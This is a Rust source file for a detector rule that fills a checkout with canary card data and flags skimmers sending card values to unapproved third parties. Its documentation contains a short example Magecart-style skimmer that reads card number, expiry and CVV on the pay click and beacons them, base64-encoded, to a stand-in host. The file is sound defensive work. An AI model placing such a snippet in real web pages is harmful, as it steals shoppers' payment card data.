//! # card-data-exfiltration
//!
//! Payment card data typed into the page's checkout (outflow's card
//! canaries) reached someone other than the site itself and the payment
//! processors the user allows: a skimmer in the act.
//!
//! ## What it detects
//!
//! With `--submit`, outflow fills a checkout like a shopper: a card number
//! unique to the scan (Luhn-valid, on the processors' `400000` test
//! prefix), its expiry, security code and cardholder name, and billing
//! details, then clicks the pay button. This rule reports each destination
//! that is not the site itself (`--first-party` says which hosts are), nor
//! an allowed processor (`--payment-processor DOMAIN`, or
//! `payment_processors` in the policy file, recorded in the capture), and
//! that received any card value in any request (URL, headers, body,
//! WebSocket frames sent) at any time of the visit, or had one written to a
//! cookie or web storage by its script. The finding says which party got
//! which card value, when (milliseconds into the visit, before or after the
//! pay click), through which frame, and how it was encoded.
//!
//! ## Why it matters
//!
//! This is Magecart: British Airways (2018, 380,000 cards), Newegg and
//! Ticketmaster lost their customers' cards to a few lines of script on
//! the payment page that copied the form to the attacker's host. PCI DSS v4
//! requirements 6.4.3 and 11.6.1 exist to catch it.
//!
//! ## How it decides
//!
//! - The card number and cardholder name are searched as every canary is
//!   (the encodings, containers and hashes `credential-exfiltration`
//!   lists), the number also as digits only and grouped in fours with
//!   spaces or dashes, and in its masked form: the first six and last four
//!   digits around 2 to 12 mask characters (`400000******1234`).
//! - The expiry and the security code are short values that occur by
//!   chance: they count only within [`NEAR_CARD_BYTES`] (200) bytes of the
//!   card number in the same decoded text, or as the value of a field
//!   named for them in a structured payload (`"cvc":"738"`,
//!   `exp_month=07&exp_year=2029`).
//! - Severity is **critical**; confidence **high**: the exact values,
//!   unique to this scan, were observed. One finding per destination,
//!   with up to [`MAX_EVIDENCE`] (12) pieces of evidence: the first
//!   request carrying each value, then later ones.
//!
//! Card canaries are reported by this rule only: `credential-exfiltration`
//! and `pii-before-submit` leave them out, and leave out billing details
//! sent to an allowed processor.
//!
//! ## Known false positives
//!
//! A processor the site really uses but did not name: pass it with
//! `--payment-processor` (its attribution in the finding says who it is).
//! A tokenised card (the processor's token instead of the number) is not
//! card data and is not reported.
//!
//! ## Example
//!
//! ```js
//! document.querySelector("#pay").addEventListener("mouseup", () => {
//!   const f = document.forms[0];
//!   new Image().src = "https://cdn-analytics.example/c.gif?d=" +
//!     btoa(JSON.stringify({n: f.cc.value, e: f.exp.value, c: f.cvv.value}));
//! });
//! ```

use std::collections::BTreeMap;

use outflow_model::{CanaryKind, Capture, Confidence, Evidence, Finding, Request, Severity};

use crate::canary::NEAR_CARD_BYTES;
use crate::canary::card::CardValues;
use crate::canary::leaks::{Leak, allowed_processor, channel_word, find_all_leaks, haystacks, kind_word};
use crate::facts::{Facts, host_of};
use crate::rule::Check;

/// How many pieces of evidence one finding lists.
const MAX_EVIDENCE: usize = 12;

crate::rules::declare_rule! {
    /// The rule; see the module documentation.
    pub struct CardDataExfiltration;
    slug: "card-data-exfiltration",
    source: "card_data_exfiltration.rs",
    thresholds: [NEAR_CARD_BYTES, MAX_EVIDENCE],
}

impl Check for CardDataExfiltration {
    fn check(&self, facts: &Facts<'_>) -> Vec<Finding> {
        let Some(capture) = facts.capture else {
            return Vec::new();
        };
        let values = CardValues::of(&capture.canaries);
        if !capture.canaries.iter().any(|c| c.kind.is_card()) {
            return Vec::new();
        }
        let mut leaks: Vec<Leak> = find_all_leaks(facts)
            .into_iter()
            .filter(|l| {
                capture.canaries.get(l.canary).is_some_and(|c| {
                    matches!(c.kind, CanaryKind::CardNumber | CanaryKind::CardholderName)
                }) && !allowed_processor(facts, &l.host)
            })
            .collect();
        if values.has_card() {
            for request in &capture.requests {
                leaks.extend(companion_leaks(facts, capture, &values, request, &leaks));
            }
        }
        findings(facts, capture, leaks)
    }
}

/// The masked card, expiry and security code in a request to a party that
/// may not have them.
fn companion_leaks(
    facts: &Facts<'_>,
    capture: &Capture,
    values: &CardValues,
    request: &Request,
    found: &[Leak],
) -> Vec<Leak> {
    let Some(host) = host_of(&request.url)
        .filter(|h| facts.is_third_party(h) && !allowed_processor(facts, h))
    else {
        return Vec::new();
    };
    let card_found = found.iter().any(|l| {
        matches!(&l.evidence, Evidence::Request { request_id, .. } if *request_id == request.id)
            && capture
                .canaries
                .get(l.canary)
                .is_some_and(|c| c.kind == CanaryKind::CardNumber)
    });
    let script = facts.request_script(request);
    let mut out = Vec::new();
    for (channel, bytes, time_ms) in haystacks(request) {
        for hit in values.search(&bytes, card_found) {
            if out.iter().any(|l: &Leak| l.canary == hit.canary) {
                continue;
            }
            out.push(Leak::in_request(
                request,
                &host,
                script.as_deref(),
                &channel,
                time_ms,
                hit,
            ));
        }
    }
    out
}

/// One finding per destination, naming each card value it received.
fn findings(facts: &Facts<'_>, capture: &Capture, leaks: Vec<Leak>) -> Vec<Finding> {
    let mut by_host: BTreeMap<String, Vec<Leak>> = BTreeMap::new();
    for leak in leaks {
        by_host.entry(leak.host.clone()).or_default().push(leak);
    }
    let frames: BTreeMap<&str, &str> = capture
        .frames
        .iter()
        .map(|f| (f.id.as_str(), f.url.as_str()))
        .collect();
    let request_frames: BTreeMap<&str, &str> = capture
        .requests
        .iter()
        .filter_map(|r| {
            let frame = r.frame_id.as_deref().and_then(|id| frames.get(id))?;
            Some((r.id.as_str(), *frame))
        })
        .collect();
    let mut out = Vec::new();
    for (host, mut group) in by_host {
        group.sort_by_key(|l| (l.time_ms, l.canary));
        // The first leak of each value.
        let mut firsts: Vec<&Leak> = Vec::new();
        for leak in &group {
            if !firsts.iter().any(|f| f.canary == leak.canary) {
                firsts.push(leak);
            }
        }
        firsts.sort_by_key(|l| {
            capture
                .canaries
                .get(l.canary)
                .map(|c| c.kind)
                .unwrap_or(CanaryKind::Email)
        });
        let owner = facts
            .attribution(&host)
            .and_then(|a| a.entity.as_ref())
            .map(|e| format!(" ({})", e.name))
            .unwrap_or_default();
        let names: Vec<String> = firsts
            .iter()
            .filter_map(|l| capture.canaries.get(l.canary))
            .map(|c| kind_word(c.kind).to_lowercase())
            .collect();
        let mut lines = Vec::new();
        let mut evidence = Vec::new();
        for leak in &firsts {
            let Some(canary) = capture.canaries.get(leak.canary) else {
                continue;
            };
            let Evidence::Request {
                request_id,
                channel,
                encodings,
                ..
            } = &leak.evidence
            else {
                continue;
            };
            // How the value was recognised (next to the card, as a named
            // field, masked) comes first; the decodings after it.
            let (recognised, chain): (Vec<&String>, Vec<&String>) = encodings
                .iter()
                .partition(|e| e.starts_with("next to") || e.starts_with("field") || e.starts_with("masked"));
            let chain: Vec<&str> = chain.iter().map(|e| e.as_str()).collect();
            let chain = if chain.is_empty() {
                "as typed".to_string()
            } else {
                chain.join(" of ")
            };
            let how = match recognised.first() {
                Some(note) => format!("{note}, {chain}"),
                None => chain,
            };
            let when = match (leak.time_ms, capture.submitted_at_ms) {
                (Some(t), Some(s)) if t < s => format!("at {t} ms, before the pay click"),
                (Some(t), Some(_)) => format!("at {t} ms, after the pay click"),
                (Some(t), None) => format!("at {t} ms"),
                (None, _) => "at an unknown time".to_string(),
            };
            let frame = request_frames
                .get(request_id.as_str())
                .map(|f| format!(", from the frame {f}"))
                .unwrap_or_default();
            let verb = if leak.write { "stored by its script" } else { "sent" };
            lines.push(format!(
                "{} ({}): {verb} {when}{frame}, {how}, in the {}",
                kind_word(canary.kind),
                canary.field,
                channel_word(channel)
            ));
            let mut e = leak.evidence.clone();
            if let Evidence::Request { what, .. } = &mut e {
                *what = format!(
                    "{} canary typed into {}",
                    kind_word(canary.kind).to_lowercase(),
                    canary.field
                );
            }
            evidence.push(e);
        }
        for leak in group.iter().filter(|l| !firsts.iter().any(|f| std::ptr::eq(*f, *l))) {
            if evidence.len() >= MAX_EVIDENCE {
                break;
            }
            evidence.push(leak.evidence.clone());
        }
        if lines.is_empty() {
            continue;
        }
        out.push(Finding {
            rule: CardDataExfiltration::SLUG.to_string(),
            severity: Severity::Critical,
            confidence: Confidence::High,
            title: format!("Card data sent to {host}{owner}: {}", names.join(", ")),
            explanation: format!(
                "The card details outflow typed into the checkout reached {host}, which is \
                 neither the site itself nor an allowed payment processor. {}. Each piece of \
                 evidence gives the request, where in it, the exact text and the encodings to \
                 undo to get back the typed value.",
                lines.join("; ")
            ),
            script: group.iter().find_map(|l| l.script.clone()),
            destinations: vec![host],
            evidence,
        });
    }
    out
}
